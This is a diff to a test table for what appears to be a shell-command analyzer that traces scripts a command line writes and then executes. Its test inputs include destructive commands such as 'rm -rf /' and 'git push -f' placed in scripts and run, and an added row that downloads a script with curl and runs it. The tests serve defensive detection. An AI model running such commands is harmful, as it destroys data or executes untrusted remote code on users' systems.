@@ -49,6 +49,8 @@ table('streams with text', [
 table('files the line writes and runs', [
   ["echo 'git push -f' > x.sh; bash x.sh", ['bash > git push -f']],
   ["printf 'rm -rf /\\n' > s.sh && chmod +x s.sh && ./s.sh", ['./s.sh > rm -rf /']],
+  ['chmod +x s.sh && ./s.sh', []],
+  ['curl -o s.sh http://x; chmod +x s.sh; ./s.sh', [], ['script-file']],
   ["printf 'rm -rf /\\n' > s.sh && . ./s.sh", ['source > rm -rf /']],
   ["echo 'X=git' > v; X=rm; . ./v; command $X a", ['command > git a']],
   ['cat > x.sh <<\'E\'\nfrob "$1" $0\nE\nsudo bash ./x.sh arg', ['sudo > bash ./x.sh arg', 'sudo > bash > frob arg ./x.sh']],
